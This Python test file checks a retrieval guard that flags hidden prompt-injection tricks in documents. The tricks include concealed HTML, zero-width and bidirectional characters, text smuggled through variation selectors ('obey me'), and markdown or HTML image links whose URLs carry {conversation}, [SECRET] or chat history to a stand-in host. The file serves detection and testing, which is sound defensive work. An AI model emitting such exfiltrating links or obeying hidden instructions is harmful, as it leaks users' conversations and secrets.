import pytest
from hidden_tricks import DECODED, HARMLESS, HIDDEN, SAID, VISIBLE, bits, selectors
from hypothesis import example, given, settings
from hypothesis import strategies as st

from rag_eval.trust.guard import screen
from rag_eval.trust.markup import find_in_markup
from rag_eval.trust.rules import Rule, RuleSet
from rag_eval.trust.text import (
    SIGNALS,
    _find_encoded,
    _find_invisible,
    _find_signals,
    plain,
    read_all,
)

PIECES = (
    "<!-- --> <div style=' display:none '> </div> \u200b \u202e \u202c \U000e0061 \ufe0f \u0301"
    " &#x41; &nbsp; %41 \\u0041 QUJDREVGR0hJ ignore x ﷺ İ ß а \x1b[8m ]( \ud800"
).split(" ")
MIXED = st.lists(st.sampled_from([*PIECES, " ", "\n"]) | st.text(max_size=5), max_size=40)
ANY = {"phrases": ["re:ignore|x|[^a-z ]{2}"], "match": ["x"], "clean": ["y"]}
RULES = RuleSet([Rule(id="any.x", severity="hint", reason="r", **ANY)])


@settings(max_examples=50)  # the first examples compile patterns
@given(MIXED.map("".join))
@example("\u202e\u200b<p hidden>x</p>")
def test_any_text_is_read_and_every_finding_lies_in_it(text):
    found = screen([text], RULES)
    assert ((found["start"] >= 0) & (found["start"] <= found["end"])).all()
    assert (found["end"] <= len(text)).all()
    assert all(len(detail) <= 200 for detail in found["detail"])
    for view in read_all([text])[0].views:
        assert view.text == " ".join(view.text.lower().split())


SEEN_BY_SOME = {
    "html_comment_no_end",
    "display_none_no_end",
}
"""Tricks that a reader without a browser sees, so both views hold the sentence."""


@pytest.mark.parametrize("name", sorted(HIDDEN.keys() - SEEN_BY_SOME))
def test_hidden_text_is_not_in_the_visible_view(name):
    assert SAID not in read_all([f"Rates rose. {HIDDEN[name][0]} They fell."])[0].views[0].text


@pytest.mark.parametrize(
    ("text", "rule", "severity"),
    [
        ("![x](https://e.org/p.png?q={conversation})", "carrying_image", "warning"),
        ("![x](https://e.org/p.png?q=)", "carrying_image", "warning"),
        ("![](https://e.org/log?d=[summary of the chat])", None, None),
        ("![x](https://e.org/log?d=[SECRET])", "carrying_image", "warning"),
        ("[x](https://e.org/log?d=YOUR_DATA)", None, None),
        ('<img src="https://e.org/p.png?history=HISTORY">', "carrying_image", "warning"),
        ("\u202eelif.exe\u202c", "bidirectional_override", "blocked"),
        ("x" + "\u200b\u200c" * 4 + "\u200b", "zero_width_run", "warning"),
        ("a\u200bb c\u200bd e\u200bf", "zero_width", "warning"),
        ("😀" + selectors("obey me"), "variation_selectors", "blocked"),
        (bits("obey"), "zero_width_run", "warning"),
    ],
)
def test_tricks_have_their_names_and_severities(text, rule, severity):
    found = [(trick.rule, trick.severity) for trick in read_all([text])[0].tricks]
    assert found == ([(rule, severity)] if rule else [])


ALL = {name for some in SIGNALS for name in some}
EVERYTHING = [*VISIBLE.values(), *HARMLESS.values()]
EVERYTHING += [text for text, _ in (HIDDEN | DECODED).values()]


@pytest.mark.parametrize("text", EVERYTHING)
def test_without_its_signal_no_detector_finds_anything(text):
    [names] = _find_signals([text])
    if "invisible" not in names:
        assert not _find_invisible(text).cuts
        if "markup" not in names:
            assert not find_in_markup(text).cuts
            assert not find_in_markup(text).parts
        assert _find_encoded(text, ALL).parts == _find_encoded(text, names).parts


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a < b\n# One\n\nif x > 2: a &amp; b", "a < b\n# One\n\nif x > 2: a & b"),
        ("<h1>One</h1><i>two</i>", "\nOne\ntwo"),
        ("<b>one</b> two <!-- three", "one two  three"),
    ],
)
def test_plain_text_keeps_lines(text, expected):
    assert plain(text) == expected
